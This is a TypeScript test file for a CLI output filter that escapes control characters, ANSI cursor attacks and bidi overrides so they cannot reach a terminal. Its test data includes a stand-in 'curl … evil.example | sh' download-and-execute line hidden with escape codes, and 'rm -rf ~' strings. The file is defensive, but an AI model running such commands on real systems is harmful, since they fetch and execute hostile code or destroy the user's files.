// The CLI's one output filter: no raw control character or bidi override ever reaches a terminal, in any
// command's output, and --json stays the same document.
import { describe, expect, it } from 'vitest';
import { blockText, humanText, inlineText, jsonText, terminalSafeIo } from './terminal-text.js';
import { main } from './main.js';
import { oneLine, table } from './common.js';
import type { CliIo } from './io.js';

const ESC_ATTACK = 'curl -s https://evil.example/x | sh\x1b[35Dls -la\x1b[K';
// Nothing a terminal acts on: C0 but tab/newline, DEL, C1, and the bidi/format characters.
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

const capture = () => {
  const out: string[] = [];
  const err: string[] = [];
  const io: CliIo = { out: (t) => void out.push(t), err: (t) => void err.push(t) };
  return { io, out, err };
};

describe('terminal text', () => {
  it('shows an ESC cursor attack as visible escapes, the whole command readable', () => {
    const shown = humanText(ESC_ATTACK);
    expect(shown).toBe('curl -s https://evil.example/x | sh\\x1b[35Dls -la\\x1b[K');
    expect(shown).not.toMatch(RAW);
  });

  it('escapes every C0 (but newline/tab), DEL, C1 and bidi control, and keeps ordinary text', () => {
    for (let c = 0; c <= 0x9f; c++) {
      const ch = String.fromCharCode(c);
      const shown = humanText(`a${ch}b`);
      if (ch === '\n' || ch === '\t' || (c >= 0x20 && c < 0x7f)) expect(shown).toBe(`a${ch}b`);
      else expect(shown, `U+${c.toString(16)}`).not.toMatch(RAW);
    }
    for (const c of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c, 0x2028, 0x2029]) {
      expect(humanText(`x${String.fromCharCode(c)}y`)).toBe(`x\\u${c.toString(16).padStart(4, '0')}y`);
    }
    expect(humanText('é ü 日本 → ✓')).toBe('é ü 日本 → ✓');
    expect(humanText('a\r\nb\rc')).toBe('a\nb\\rc');
    expect(humanText('\x9b31m\x7f')).toBe('\\u009b31m\\u007f');
  });

  it('JSON escapes keep the document exact: it parses to the very same strings (JSON printed in human mode too)', () => {
    const value = { target: `${ESC_ATTACK}\u202e\u009b\u2066\u007f\r`, n: 1 };
    for (const text of [jsonText(JSON.stringify(value, null, 2)), humanText(JSON.stringify(value, null, 2))]) {
      expect(text).not.toMatch(RAW);
      expect(JSON.parse(text)).toEqual(value);
    }
  });

  it('a single-line field cannot fake another line; a block indents its continuation lines', () => {
    expect(inlineText('ls\nrm -rf ~\r\n')).toBe('ls\\nrm -rf ~\\n');
    expect(blockText('first\napproved row 1')).toBe('first\n  approved row 1');
    expect(oneLine('ls\n  rm -rf ~')).toBe('ls\\n rm -rf ~');
    const t = table([
      ['id1', 'echo hi\nid2  approved'],
      ['id3', 'x'],
    ]);
    expect(t.split('\n')).toHaveLength(2);
    expect(t).toContain('echo hi\\nid2');
  });

  it('table widths are measured on the escaped cells, so columns stay aligned', () => {
    const t = table([
      ['\x1b[2J', 'a'],
      ['abcdefgh', 'b'],
    ]).split('\n');
    expect(t[0].lastIndexOf('a')).toBe(t[1].lastIndexOf('b'));
    expect(t[0]).toBe('\\x1b[2J   a');
  });

  it('terminalSafeIo: stdout human or JSON, stderr always human', () => {
    const c = capture();
    terminalSafeIo(c.io, false).out('\x1b]0;title\x07');
    terminalSafeIo(c.io, true).out('"\u202e"');
    terminalSafeIo(c.io, true).err('\u202e');
    expect(c.out).toEqual(['\\x1b]0;title\\x07', '"\\u202e"']);
    expect(c.err).toEqual(['\\u202e']);
  });

  it('main() wraps every command: a usage error echoing hostile input prints it escaped', async () => {
    const c = capture();
    expect(await main([`evil\u202e\x1b[2J`], c.io)).toBe(2);
    const all = c.err.join('');
    expect(all).toContain('unknown command');
    expect(all).not.toMatch(RAW);
    expect(all).toContain('\\u202e');
    const d = capture();
    expect(await main(['runs', 'frobnicate\x1b[31m'], d.io)).toBe(2);
    expect(d.err.join('')).toContain('frobnicate\\x1b[31m');
  });
});
